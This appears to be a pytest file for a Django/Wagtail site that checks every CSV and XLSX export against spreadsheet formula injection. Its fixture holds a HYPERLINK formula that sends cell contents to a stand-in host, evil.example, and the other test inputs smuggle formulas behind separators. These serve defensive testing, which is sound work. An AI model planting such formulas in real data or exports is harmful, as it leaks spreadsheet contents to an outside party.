"""CSV formula injection: no exported cell runs as a formula in a spreadsheet program.

A company named ``=HYPERLINK(...)`` goes through every export that can show it: the
companies, positions and placements listings, Wagtail's site history, the contact form's
submissions (typed by anyone) and the project report (tests/companies/test_report_exports.py).
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation
from wagtail.contrib.forms.models import FormSubmission
from wagtail.log_actions import log
from wagtail.models import Locale

from home.models import FormField, FormPage
from home.spreadsheets import spreadsheet_safe
from tests.factories.companies import CompanyFactory, PlacementFactory, PositionFactory
from tests.factories.pages import home_page

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+39 0577 000000", "'+39 0577 000000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("  =1+2", "'  =1+2"),
        ("Forno;=1+2", "Forno;'=1+2"),
        ("Forno; -1", "Forno; '-1"),
        ("Forno Nord s.r.l.", "Forno Nord s.r.l."),
        ("a-b = c", "a-b = c"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def csv_rows(response):
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_values(response):
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_defused(client, url, **params):
    """Both formats hold the name as text with its apostrophe, never as it was typed."""
    rows = csv_rows(client.get(url, {"export": "csv", **params}))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells
    xlsx = xlsx_values(client.get(url, {"export": "xlsx", **params}))
    texts = [cell.value for cell in xlsx]
    assert "'" + EVIL in texts
    assert EVIL not in texts
    assert all(cell.data_type != "f" for cell in xlsx)


def admin_url(name, *args):
    with translation.override("en"):
        return reverse(name, args=args)


@pytest.fixture
def evil_company():
    return CompanyFactory(legal_name=EVIL)


def test_companies_listing(staff_client, evil_company):
    # Every status, not only the review queue the listing opens on.
    assert_defused(staff_client, admin_url("companies_admin:index"), status="")


def test_positions_listing(staff_client, evil_company):
    PositionFactory(company=evil_company, title=EVIL)
    assert_defused(staff_client, admin_url("positions_admin:index"))


def test_placements_listing(staff_client):
    PlacementFactory(company__legal_name=EVIL)
    assert_defused(staff_client, admin_url("placements_admin:index"))


def test_site_history(staff_client, evil_company):
    log(evil_company, "wagtail.edit")
    assert_defused(staff_client, reverse("wagtailadmin_reports:site_history"))


def test_contact_form_submissions(staff_client):
    page = FormPage(title="Contatti", slug="contatti", to_address="", from_address="")
    home_page().add_child(instance=page)
    FormField.objects.create(
        page=page,
        label="Messaggio",
        field_type="singleline",
        locale=Locale.objects.get(language_code="it"),
    )
    FormSubmission.objects.create(page=page, form_data={"messaggio": EVIL})
    assert_defused(staff_client, reverse("wagtailforms:list_submissions", args=[page.pk]))
